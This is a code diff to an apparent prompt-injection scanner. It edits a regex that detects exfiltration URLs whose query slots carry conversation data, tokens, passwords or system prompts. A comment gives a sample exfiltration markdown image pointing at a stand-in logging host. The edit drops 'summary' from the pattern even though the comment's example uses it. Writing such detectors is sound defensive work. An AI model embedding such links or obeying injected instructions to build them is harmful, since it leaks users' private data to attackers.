@@ -115,7 +115,8 @@ _NEED_URL_SLOT = (
     ("*http://", "*https://"),
     ("*={", "*=[", "*=<", "*=$"),
     (
-        "*conversation", "*chat", "*history", "*context", "*summary", "*secret", "*token",
+        "*conversation", "*chat", "*history", "*transcript", "*context", "*summary", "*secret",
+        "*token",
         "*password", "*key", "*data", "*email", "*messages", "*memory", "*prompt", "*ssn",
         "*credentials", "*cookie", "*session", "*user",
     ),
@@ -263,9 +264,9 @@ AGENTIC_RULES: tuple[Rule, ...] = (
         # in and the attacker's server logs it ("![img](https://x/log?d={summary})")
         "exfil_url_slot_en",
         r"[?&][\w.-]{1,30}=(?:\{\{?|\[|<|\$\{?)\s?(?:the |user_?|"
-        r"full_?|all_?|your_?)?(?:conversation|chat|history|context|summary|secrets?|tokens?|"
-        r"passwords?|api_?keys?|keys?|data|emails?|messages|memory|prompt|system_?prompt|ssn|"
-        r"credentials|cookies?|session(?:_?id|_?token)?|user_?(?:data|info|email))\w*\s?"
+        r"full_?|all_?|your_?)?(?:conversation|chat|history|transcript|secrets?|tokens?|"
+        r"passwords?|api_?keys?|messages|memory|system_?prompt|ssn|credentials|cookies?|"
+        r"session_?(?:id|token)s?|user_?(?:data|info|email))\w*\s?"
         r"(?:\}\}?|\]|>)",
         need=(_NEED_URL_SLOT[1], _NEED_URL_SLOT[0], _NEED_URL_SLOT[2]),
         validate=_in_a_link,
